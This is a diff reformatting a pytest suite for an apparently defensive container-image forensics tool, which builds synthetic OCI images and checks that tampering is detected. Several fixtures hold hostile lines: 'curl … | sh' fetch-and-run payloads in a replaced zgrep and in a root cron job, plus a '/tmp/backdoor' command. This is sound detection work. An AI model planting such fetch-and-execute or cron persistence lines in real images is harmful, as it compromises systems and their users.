@@ -9,8 +9,8 @@ import sys
 from pathlib import Path
 
 import pytest
+from hostile import Layer, M, Oci, tar_bytes
 
-from hostile import M, Layer, Oci, tar_bytes
 from forensics.history.overlay import Overlay
 from forensics.models import FileEntry
 from forensics.pipeline import analyze
@@ -21,14 +21,16 @@ ELF = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8
 
 
 def fe(path, type="file", sha=None, mode=0o644, link=None, kind=None, size=0):
-    return FileEntry(path=path, type=type, mode=mode, uid=0, gid=0, size=size, mtime=0, link=link,
-                     sha256=sha, kind=kind)
+    return FileEntry(
+        path=path, type=type, mode=mode, uid=0, gid=0, size=size, mtime=0, link=link, sha256=sha, kind=kind
+    )
 
 
 def build(tmp_path, layers: list[list[M]], history: list[dict], name="img.tar", **cfg_extra) -> Path:
     def mutate(cfg):
         cfg["history"] = history
         cfg.update(cfg_extra)
+
     oci = Oci(layers=[Layer.of(tar_bytes(m)) for m in layers], mutate_config=mutate)
     p = tmp_path / name
     p.write_bytes(oci.tar())
@@ -40,6 +42,7 @@ def codes(report, code):
 
 
 # --- overlay semantics (image-spec layer.md) -------------------------------------------
+
 
 def test_whiteout_deletes_lower_path_and_its_children():
     o = Overlay()
@@ -68,12 +71,20 @@ def test_modification_is_classified():
 
 def test_merged_usr_resolution():
     o = Overlay()
-    o.apply(0, [fe("/usr", "dir"), fe("/usr/bin", "dir"), fe("/usr/bin/zgrep", sha="1"),
-                fe("/bin", "symlink", link="usr/bin")])
+    o.apply(
+        0,
+        [
+            fe("/usr", "dir"),
+            fe("/usr/bin", "dir"),
+            fe("/usr/bin/zgrep", sha="1"),
+            fe("/bin", "symlink", link="usr/bin"),
+        ],
+    )
     assert o.resolve("/bin/zgrep").entry.path == "/usr/bin/zgrep"
 
 
 # --- the bundled forged pair -------------------------------------------------------------
+
 
 def test_forged_sample_names_the_poisoned_step_and_paths():
     truth = json.loads((SAMPLES / "relay-forged.truth.json").read_text())
@@ -105,6 +116,7 @@ def test_genuine_samples_have_nothing_unexplained(name):
 
 # --- pairing history with layers -------------------------------------------------------
 
+
 def test_extra_history_entry_is_identified(tmp_path):
     layers = [[M("etc/", type="dir"), M("etc/a", b"a")], [M("app/", type="dir"), M("app/b", b"b")]]
     history = [
@@ -134,8 +146,7 @@ def test_run_marked_empty_owns_the_spare_layer(tmp_path):
 
 def test_metadata_step_owning_files_is_flagged(tmp_path):
     layers = [[M("etc/", type="dir"), M("etc/a", b"a")], [M("etc/b", b"b")]]
-    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
-               {"created_by": "/bin/sh -c #(nop)  ENV A=b"}]
+    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "}, {"created_by": "/bin/sh -c #(nop)  ENV A=b"}]
     r = analyze(str(build(tmp_path, layers, history)))
     [f] = codes(r, "history.empty-layer-mismatch")
     assert (f.history, f.layer) == (1, 1)
@@ -143,16 +154,30 @@ def test_metadata_step_owning_files_is_flagged(tmp_path):
 
 # --- explanations ------------------------------------------------------------------------
 
+
 def test_run_command_explains_what_it_writes_and_nothing_else(tmp_path):
     layers = [
-        [M("etc/", type="dir"), M("etc/passwd", b"root:x:0:0\n"), M("usr/", type="dir"),
-         M("usr/bin/", type="dir"), M("usr/bin/tool", ELF, mode=0o755)],
-        [M("etc/", type="dir"), M("etc/passwd", b"root:x:0:0\napp:x:1:1\n"), M("opt/", type="dir"),
-         M("opt/app/", type="dir"), M("usr/", type="dir"), M("usr/bin/", type="dir"),
-         M("usr/bin/tool", b"#!/bin/sh\nexec /tmp/x\n", mode=0o755)],
+        [
+            M("etc/", type="dir"),
+            M("etc/passwd", b"root:x:0:0\n"),
+            M("usr/", type="dir"),
+            M("usr/bin/", type="dir"),
+            M("usr/bin/tool", ELF, mode=0o755),
+        ],
+        [
+            M("etc/", type="dir"),
+            M("etc/passwd", b"root:x:0:0\napp:x:1:1\n"),
+            M("opt/", type="dir"),
+            M("opt/app/", type="dir"),
+            M("usr/", type="dir"),
+            M("usr/bin/", type="dir"),
+            M("usr/bin/tool", b"#!/bin/sh\nexec /tmp/x\n", mode=0o755),
+        ],
     ]
-    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
-               {"created_by": "/bin/sh -c echo 'app:x:1:1' >> /etc/passwd && mkdir -p /opt/app"}]
+    history = [
+        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
+        {"created_by": "/bin/sh -c echo 'app:x:1:1' >> /etc/passwd && mkdir -p /opt/app"},
+    ]
     r = analyze(str(build(tmp_path, layers, history)))
     [f] = codes(r, "history.unexplained-change")
     assert f.evidence["paths"] == ["/usr/bin/tool"]
@@ -165,19 +190,27 @@ def test_run_command_explains_what_it_writes_and_nothing_else(tmp_path):
 
 
 def test_copy_destination_explains_its_tree(tmp_path):
-    layers = [[M("etc/", type="dir"), M("etc/a", b"a")],
-              [M("app/", type="dir"), M("app/src/", type="dir"), M("app/src/main.py", b"print(1)\n")]]
-    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
-               {"created_by": "COPY . /app # buildkit", "comment": "buildkit.dockerfile.v0"}]
+    layers = [
+        [M("etc/", type="dir"), M("etc/a", b"a")],
+        [M("app/", type="dir"), M("app/src/", type="dir"), M("app/src/main.py", b"print(1)\n")],
+    ]
+    history = [
+        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
+        {"created_by": "COPY . /app # buildkit", "comment": "buildkit.dockerfile.v0"},
+    ]
     r = analyze(str(build(tmp_path, layers, history)))
     assert not codes(r, "history.unexplained-change")
 
 
 def test_setuid_file_added_is_reported(tmp_path):
-    layers = [[M("etc/", type="dir"), M("etc/a", b"a")], [M("usr/", type="dir"), M("usr/bin/", type="dir"),
-                                                         M("usr/bin/rootme", ELF, mode=0o4755)]]
-    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
-               {"created_by": "/bin/sh -c #(nop) COPY file:bb in /usr/bin/rootme "}]
+    layers = [
+        [M("etc/", type="dir"), M("etc/a", b"a")],
+        [M("usr/", type="dir"), M("usr/bin/", type="dir"), M("usr/bin/rootme", ELF, mode=0o4755)],
+    ]
+    history = [
+        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
+        {"created_by": "/bin/sh -c #(nop) COPY file:bb in /usr/bin/rootme "},
+    ]
     r = analyze(str(build(tmp_path, layers, history)))
     [f] = codes(r, "file.setuid-added")
     assert f.path == "/usr/bin/rootme" and f.layer == 1
@@ -186,21 +219,30 @@ def test_setuid_file_added_is_reported(tmp_path):
 def _dpkg_layers(zgrep_v2: bytes):
     zgrep = b"#!/bin/sh\necho genuine zgrep\n"
     md5 = hashlib.md5(zgrep).hexdigest()
-    status = (b"Package: gzip\nStatus: install ok installed\nVersion: 1.12-1\nArchitecture: amd64\n\n")
-    base = [M("usr/", type="dir"), M("usr/bin/", type="dir"), M("usr/bin/zgrep", zgrep, mode=0o755),
-            M("bin", type="symlink", link="usr/bin"),
-            M("var/", type="dir"), M("var/lib/", type="dir"), M("var/lib/dpkg/", type="dir"),
-            M("var/lib/dpkg/status", status), M("var/lib/dpkg/info/", type="dir"),
-            M("var/lib/dpkg/info/gzip.list", b"/usr\n/usr/bin\n/usr/bin/zgrep\n"),
-            M("var/lib/dpkg/info/gzip.md5sums", f"{md5}  usr/bin/zgrep\n".encode())]
+    status = b"Package: gzip\nStatus: install ok installed\nVersion: 1.12-1\nArchitecture: amd64\n\n"
+    base = [
+        M("usr/", type="dir"),
+        M("usr/bin/", type="dir"),
+        M("usr/bin/zgrep", zgrep, mode=0o755),
+        M("bin", type="symlink", link="usr/bin"),
+        M("var/", type="dir"),
+        M("var/lib/", type="dir"),
+        M("var/lib/dpkg/", type="dir"),
+        M("var/lib/dpkg/status", status),
+        M("var/lib/dpkg/info/", type="dir"),
+        M("var/lib/dpkg/info/gzip.list", b"/usr\n/usr/bin\n/usr/bin/zgrep\n"),
+        M("var/lib/dpkg/info/gzip.md5sums", f"{md5}  usr/bin/zgrep\n".encode()),
+    ]
     later = [M("usr/", type="dir"), M("usr/bin/", type="dir"), M("usr/bin/zgrep", zgrep_v2, mode=0o755)]
     return [base, later]
 
 
 def test_package_file_rewritten_in_a_later_layer_is_reported(tmp_path):
     layers = _dpkg_layers(b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")
-    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
-               {"created_by": "/bin/sh -c sed -i 's/genuine/evil/' /usr/bin/zgrep"}]
+    history = [
+        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
+        {"created_by": "/bin/sh -c sed -i 's/genuine/evil/' /usr/bin/zgrep"},
+    ]
     p = build(tmp_path, layers, history)
     r = analyze(str(p))
     [f] = codes(r, "history.package-file-modified")
@@ -208,8 +250,9 @@ def test_package_file_rewritten_in_a_later_layer_is_reported(tmp_path):
     assert f.evidence["package"] == "gzip" and f.evidence["algo"] == "md5"
     assert f.evidence["actual"] == hashlib.md5(layers[1][2].data).hexdigest()  # confirmed by the second pass
     # The same archive on stdin cannot be read twice: the evidence is the content change alone.
-    cp = subprocess.run([sys.executable, "-m", "forensics", "scan", "-", "--json", "-", "-q"],
-                        input=p.read_bytes(), capture_output=True)
+    cp = subprocess.run(
+        [sys.executable, "-m", "forensics", "scan", "-", "--json", "-", "-q"], input=p.read_bytes(), capture_output=True
+    )
     doc = json.loads(cp.stdout)
     [g] = [x for x in doc["findings"] if x["code"] == "history.package-file-modified"]
     assert g["evidence"]["actual"] is None and "stdin" in g["detail"]
@@ -217,20 +260,21 @@ def test_package_file_rewritten_in_a_later_layer_is_reported(tmp_path):
 
 def test_package_file_rewritten_identically_is_not_reported(tmp_path):
     layers = _dpkg_layers(b"#!/bin/sh\necho genuine zgrep\n")
-    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
-               {"created_by": "/bin/sh -c touch /usr/bin/zgrep"}]
+    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "}, {"created_by": "/bin/sh -c touch /usr/bin/zgrep"}]
     r = analyze(str(build(tmp_path, layers, history)))
     assert not codes(r, "history.package-file-modified")
 
 
 # --- time and the other copies of the record -------------------------------------------
 
+
 def test_history_going_backwards_and_future(tmp_path):
     layers = [[M("etc/", type="dir"), M("etc/a", b"a")]]
-    history = [{"created": "2023-01-02T00:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
-               {"created": "2023-01-01T00:00:00Z", "created_by": "/bin/sh -c #(nop)  ENV A=1", "empty_layer": True},
-               {"created": "2099-01-01T00:00:00Z", "created_by": "/bin/sh -c #(nop)  CMD [\"sh\"]",
-                "empty_layer": True}]
+    history = [
+        {"created": "2023-01-02T00:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
+        {"created": "2023-01-01T00:00:00Z", "created_by": "/bin/sh -c #(nop)  ENV A=1", "empty_layer": True},
+        {"created": "2099-01-01T00:00:00Z", "created_by": '/bin/sh -c #(nop)  CMD ["sh"]', "empty_layer": True},
+    ]
     r = analyze(str(build(tmp_path, layers, history)))
     medium = [f for f in codes(r, "history.time-anomaly") if f.severity.value == "medium"]
     assert sorted(f.history for f in medium) == [1, 2]
@@ -240,10 +284,13 @@ def test_history_going_backwards_and_future(tmp_path):
 
 def test_container_config_contradicting_history(tmp_path):
     layers = [[M("etc/", type="dir"), M("etc/a", b"a")]]
-    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
-               {"created_by": "/bin/sh -c #(nop)  CMD [\"sh\"]", "empty_layer": True}]
-    p = build(tmp_path, layers, history,
-              container_config={"Cmd": ["/bin/sh", "-c", "#(nop) ", "CMD [\"/tmp/backdoor\"]"]})
+    history = [
+        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
+        {"created_by": '/bin/sh -c #(nop)  CMD ["sh"]', "empty_layer": True},
+    ]
+    p = build(
+        tmp_path, layers, history, container_config={"Cmd": ["/bin/sh", "-c", "#(nop) ", 'CMD ["/tmp/backdoor"]']}
+    )
     r = analyze(str(p))
     [f] = [x for x in codes(r, "history.unexplained-change") if "container_config" in x.detail]
     assert f.history == 1
@@ -251,26 +298,43 @@ def test_container_config_contradicting_history(tmp_path):
 
 def test_maintainer_script_output_is_explained_but_smuggled_files_are_not(tmp_path):
     status = b"Package: base-files\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n"
-    base = [M("etc/", type="dir"), M("etc/os-release", b"ID=debian\n"), M("var/", type="dir"),
-            M("var/lib/", type="dir"), M("var/lib/dpkg/", type="dir"), M("var/lib/dpkg/status", status),
-            M("var/lib/dpkg/info/", type="dir"), M("var/lib/dpkg/info/base-files.list", b"/etc/os-release\n")]
+    base = [
+        M("etc/", type="dir"),
+        M("etc/os-release", b"ID=debian\n"),
+        M("var/", type="dir"),
+        M("var/lib/", type="dir"),
+        M("var/lib/dpkg/", type="dir"),
+        M("var/lib/dpkg/status", status),
+        M("var/lib/dpkg/info/", type="dir"),
+        M("var/lib/dpkg/info/base-files.list", b"/etc/os-release\n"),
+    ]
     zone = b"TZif2" + bytes(40)
     postinst = b'#!/bin/sh\nset -e\nzonefile="$DPKG_ROOT/etc/timezone"\necho Etc/UTC > "$zonefile"\n'
     install = [
-        M("etc/", type="dir"), M("etc/timezone", b"Etc/UTC\n"),
-        M("etc/cron.d/", type="dir"), M("etc/cron.d/evil", b"* * * * * root curl http://203.0.113.5|sh\n"),
-        M("usr/", type="dir"), M("usr/share/", type="dir"), M("usr/share/zoneinfo/", type="dir"),
+        M("etc/", type="dir"),
+        M("etc/timezone", b"Etc/UTC\n"),
+        M("etc/cron.d/", type="dir"),
+        M("etc/cron.d/evil", b"* * * * * root curl http://203.0.113.5|sh\n"),
+        M("usr/", type="dir"),
+        M("usr/share/", type="dir"),
+        M("usr/share/zoneinfo/", type="dir"),
         M("usr/share/zoneinfo/UTC", zone),
-        M("var/", type="dir"), M("var/lib/", type="dir"), M("var/lib/dpkg/", type="dir"),
-        M("var/lib/dpkg/status", status + b"Package: tzdata\nStatus: install ok installed\nVersion: 2024a\n"
-                                          b"Architecture: all\n\n"),
+        M("var/", type="dir"),
+        M("var/lib/", type="dir"),
+        M("var/lib/dpkg/", type="dir"),
+        M(
+            "var/lib/dpkg/status",
+            status + b"Package: tzdata\nStatus: install ok installed\nVersion: 2024a\nArchitecture: all\n\n",
+        ),
         M("var/lib/dpkg/info/", type="dir"),
         M("var/lib/dpkg/info/tzdata.list", b"/usr\n/usr/share\n/usr/share/zoneinfo\n/usr/share/zoneinfo/UTC\n"),
         M("var/lib/dpkg/info/tzdata.md5sums", hashlib.md5(zone).hexdigest().encode() + b"  usr/share/zoneinfo/UTC\n"),
         M("var/lib/dpkg/info/tzdata.postinst", postinst, mode=0o755),
     ]
-    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
-               {"created_by": "/bin/sh -c apt-get update && apt-get install -y tzdata"}]
+    history = [
+        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
+        {"created_by": "/bin/sh -c apt-get update && apt-get install -y tzdata"},
+    ]
     r = analyze(str(build(tmp_path, [base, install], history)))
     [f] = codes(r, "history.unexplained-change")
     assert f.evidence["paths"] == ["/etc/cron.d", "/etc/cron.d/evil"]
@@ -284,37 +348,79 @@ def test_maintainer_script_output_is_explained_but_smuggled_files_are_not(tmp_pa
 def _attested(tmp_path, dockerfile: str, recorded_layers: list[str] | None, name: str) -> Path:
     """An OCI archive whose index carries a BuildKit-style provenance attestation."""
     import base64
+
     from hostile import hexof, jbytes, sha
 
     layers = [[M("etc/", type="dir"), M("etc/a", b"a")], [M("hi", b"hi\n")]]
-    history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
-               {"created_by": "RUN /bin/sh -c echo hi > /hi # buildkit", "comment": "buildkit.dockerfile.v0"}]
+    history = [
+        {"created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
+        {"created_by": "RUN /bin/sh -c echo hi > /hi # buildkit", "comment": "buildkit.dockerfile.v0"},
+    ]
 
     def mutate(cfg):
         cfg["history"] = history
+
     oci = Oci(layers=[Layer.of(tar_bytes(m)) for m in layers], mutate_config=mutate)
     cfg, man, idx = oci.documents()
     layer_descs = json.loads(man)["layers"]
-    recorded = layer_descs if recorded_layers is None else [
-        {"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": d, "size": 1} for d in recorded_layers]
-    statement = jbytes({
-        "_type": "https://in-toto.io/Statement/v0.1", "predicateType": "https://slsa.dev/provenance/v1",
-        "subject": [{"name": "x", "digest": {"sha256": hexof(man)}}],
-        "predicate": {"runDetails": {"metadata": {"buildkit_metadata": {
-            "source": {"infos": [{"filename": "Dockerfile",
-                                  "data": base64.b64encode(dockerfile.encode()).decode()}]},
-            "layers": {"step1:0": [recorded]}}}}}})
+    recorded = (
+        layer_descs
+        if recorded_layers is None
+        else [
+            {"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": d, "size": 1}
+            for d in recorded_layers
+        ]
+    )
+    statement = jbytes(
+        {
+            "_type": "https://in-toto.io/Statement/v0.1",
+            "predicateType": "https://slsa.dev/provenance/v1",
+            "subject": [{"name": "x", "digest": {"sha256": hexof(man)}}],
+            "predicate": {
+                "runDetails": {
+                    "metadata": {
+                        "buildkit_metadata": {
+                            "source": {
+                                "infos": [
+                                    {"filename": "Dockerfile", "data": base64.b64encode(dockerfile.encode()).decode()}
+                                ]
+                            },
+                            "layers": {"step1:0": [recorded]},
+                        }
+                    }
+                }
+            },
+        }
+    )
     empty = b"{}"
-    att = jbytes({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
-                  "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": sha(empty), "size": 2},
-                  "layers": [{"mediaType": "application/vnd.in-toto+json", "digest": sha(statement),
-                              "size": len(statement),
-                              "annotations": {"in-toto.io/predicate-type": "https://slsa.dev/provenance/v1"}}]})
+    att = jbytes(
+        {
+            "schemaVersion": 2,
+            "mediaType": "application/vnd.oci.image.manifest.v1+json",
+            "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": sha(empty), "size": 2},
+            "layers": [
+                {
+                    "mediaType": "application/vnd.in-toto+json",
+                    "digest": sha(statement),
+                    "size": len(statement),
+                    "annotations": {"in-toto.io/predicate-type": "https://slsa.dev/provenance/v1"},
+                }
+            ],
+        }
+    )
     index = json.loads(idx)
-    index["manifests"].append({"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": sha(att),
-                               "size": len(att), "platform": {"architecture": "unknown", "os": "unknown"},
-                               "annotations": {"vnd.docker.reference.type": "attestation-manifest",
-                                               "vnd.docker.reference.digest": sha(man)}})
+    index["manifests"].append(
+        {
+            "mediaType": "application/vnd.oci.image.manifest.v1+json",
+            "digest": sha(att),
+            "size": len(att),
+            "platform": {"architecture": "unknown", "os": "unknown"},
+            "annotations": {
+                "vnd.docker.reference.type": "attestation-manifest",
+                "vnd.docker.reference.digest": sha(man),
+            },
+        }
+    )
     members = [m for m in oci.members() if not (isinstance(m, M) and m.name == "index.json")]
     members += [M(f"blobs/sha256/{hexof(b)}", b) for b in (statement, empty, att)]
     members.append(M("index.json", jbytes(index)))
@@ -331,8 +437,12 @@ def test_provenance_agrees_with_history(tmp_path):
 
 
 def test_provenance_contradicts_rewritten_history(tmp_path):
-    p = _attested(tmp_path, "FROM scratch\nADD rootfs.tar /\nRUN echo pwned > /hi && curl x|sh\n",
-                  ["sha256:" + "0" * 64], "forged.tar")
+    p = _attested(
+        tmp_path,
+        "FROM scratch\nADD rootfs.tar /\nRUN echo pwned > /hi && curl x|sh\n",
+        ["sha256:" + "0" * 64],
+        "forged.tar",
+    )
     r = analyze(str(p))
     found = [f for f in codes(r, "history.unexplained-change") if "provenance" in f.detail]
     assert {(f.history, f.layer) for f in found} == {(1, 1)}
@@ -341,9 +451,10 @@ def test_provenance_contradicts_rewritten_history(tmp_path):
 
 def test_history_dated_after_the_archive_was_written(tmp_path):
     layers = [[M("etc/", type="dir"), M("etc/a", b"a")]]  # hostile.M stamps members 2023-11-14
-    history = [{"created": "2023-11-01T00:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
-               {"created": "2024-06-01T00:00:00Z", "created_by": "/bin/sh -c #(nop)  CMD [\"sh\"]",
-                "empty_layer": True}]
+    history = [
+        {"created": "2023-11-01T00:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:aa in / "},
+        {"created": "2024-06-01T00:00:00Z", "created_by": '/bin/sh -c #(nop)  CMD ["sh"]', "empty_layer": True},
+    ]
     r = analyze(str(build(tmp_path, layers, history)))
     [f] = [x for x in codes(r, "history.time-anomaly") if x.severity.value == "medium"]
     assert f.history == 1 and "after the archive was written" in f.detail
@@ -356,16 +467,24 @@ def test_apk_v3_record_checked_against_every_file_without_a_second_pass(tmp_path
 
     def z(data: bytes) -> str:  # apk v3 (f:S): Q1 + base64 of the first 160 bits of sha256
         return "Q1" + base64.b64encode(hashlib.sha256(data).digest()[:20]).decode()
-    installed = (f"P:tool\nV:1.0-r0\nA:x86_64\nf:S\nF:usr/bin\nR:tool\nZ:{z(good)}\nR:other\nZ:{z(b'ok')}\n\n"
-                 .encode())
+
+    installed = f"P:tool\nV:1.0-r0\nA:x86_64\nf:S\nF:usr/bin\nR:tool\nZ:{z(good)}\nR:other\nZ:{z(b'ok')}\n\n".encode()
     # installed and altered in the same layer: no cross-layer evidence, only the record
-    layer = [M("lib/", type="dir"), M("lib/apk/", type="dir"), M("lib/apk/db/", type="dir"),
-             M("lib/apk/db/installed", installed), M("usr/", type="dir"), M("usr/bin/", type="dir"),
-             M("usr/bin/tool", evil, mode=0o755), M("usr/bin/other", b"ok", mode=0o755)]
+    layer = [
+        M("lib/", type="dir"),
+        M("lib/apk/", type="dir"),
+        M("lib/apk/db/", type="dir"),
+        M("lib/apk/db/installed", installed),
+        M("usr/", type="dir"),
+        M("usr/bin/", type="dir"),
+        M("usr/bin/tool", evil, mode=0o755),
+        M("usr/bin/other", b"ok", mode=0o755),
+    ]
     history = [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "}]
     p = build(tmp_path, [layer], history)
-    cp = subprocess.run([sys.executable, "-m", "forensics", "scan", "-", "--json", "-", "-q"],
-                        input=p.read_bytes(), capture_output=True)  # stdin: no second pass possible
+    cp = subprocess.run(
+        [sys.executable, "-m", "forensics", "scan", "-", "--json", "-", "-q"], input=p.read_bytes(), capture_output=True
+    )  # stdin: no second pass possible
     doc = json.loads(cp.stdout)
     [f] = [x for x in doc["findings"] if x["code"] == "history.package-file-modified"]
     assert f["path"] == "/usr/bin/tool" and f["evidence"]["algo"] == "sha256-160"
@@ -376,11 +495,18 @@ def test_apk_v3_record_checked_against_every_file_without_a_second_pass(tmp_path
 def test_verify_packages_all_catches_a_file_altered_in_the_installing_step(tmp_path):
     zgrep, evil = b"#!/bin/sh\necho genuine zgrep\n", b"#!/bin/sh\necho evil\n"
     status = b"Package: gzip\nStatus: install ok installed\nVersion: 1.12-1\nArchitecture: amd64\n\n"
-    layer = [M("usr/", type="dir"), M("usr/bin/", type="dir"), M("usr/bin/zgrep", evil, mode=0o755),
-             M("var/", type="dir"), M("var/lib/", type="dir"), M("var/lib/dpkg/", type="dir"),
-             M("var/lib/dpkg/status", status), M("var/lib/dpkg/info/", type="dir"),
-             M("var/lib/dpkg/info/gzip.list", b"/usr\n/usr/bin\n/usr/bin/zgrep\n"),
-             M("var/lib/dpkg/info/gzip.md5sums", f"{hashlib.md5(zgrep).hexdigest()}  usr/bin/zgrep\n".encode())]
+    layer = [
+        M("usr/", type="dir"),
+        M("usr/bin/", type="dir"),
+        M("usr/bin/zgrep", evil, mode=0o755),
+        M("var/", type="dir"),
+        M("var/lib/", type="dir"),
+        M("var/lib/dpkg/", type="dir"),
+        M("var/lib/dpkg/status", status),
+        M("var/lib/dpkg/info/", type="dir"),
+        M("var/lib/dpkg/info/gzip.list", b"/usr\n/usr/bin\n/usr/bin/zgrep\n"),
+        M("var/lib/dpkg/info/gzip.md5sums", f"{hashlib.md5(zgrep).hexdigest()}  usr/bin/zgrep\n".encode()),
+    ]
     p = str(build(tmp_path, [layer], [{"created_by": "/bin/sh -c #(nop) ADD file:aa in / "}]))
     # --verify-packages changed: cross-layer evidence only, the md5 is not read again
     assert not codes(analyze(p, verify_packages="changed"), "history.package-file-modified")
@@ -393,8 +519,10 @@ def test_verify_packages_all_catches_a_file_altered_in_the_installing_step(tmp_p
     doc = json.loads(cp.stdout)
     assert any(x["code"] == "history.package-file-modified" for x in doc["findings"])
     assert doc["images"][0]["package_coverage"]["mismatched"] == {"files": 1, "bytes": len(evil)}
-    cp = subprocess.run([sys.executable, "-m", "forensics", "scan", p, "--verify-packages", "changed", "--json",
-                         "-", "-q"], capture_output=True)
+    cp = subprocess.run(
+        [sys.executable, "-m", "forensics", "scan", p, "--verify-packages", "changed", "--json", "-", "-q"],
+        capture_output=True,
+    )
     cov = json.loads(cp.stdout)["images"][0]["package_coverage"]
     assert cov["mode"] == "changed" and cov["mismatched"]["files"] == 0
     assert list(cov["unverifiable"].values()) == [{"files": 1, "bytes": len(evil)}]
@@ -405,8 +533,9 @@ def test_fast_path_change_equals_the_validated_model():
     from forensics.models import PathChange
 
     fast = _change(path="/a", change="modified", type="file", what=["content"], size=3, sha256="ab", before_sha256="cd")
-    slow = PathChange(path="/a", change="modified", type="file", what=["content"], size=3, sha256="ab",
-                      before_sha256="cd")
+    slow = PathChange(
+        path="/a", change="modified", type="file", what=["content"], size=3, sha256="ab", before_sha256="cd"
+    )
     assert fast == slow and set(vars(fast)) == set(vars(slow)) and fast.model_dump_json() == slow.model_dump_json()
     fast.explained_by = "written by the command"  # the explanation stage assigns it
     assert fast.explained_by == "written by the command"
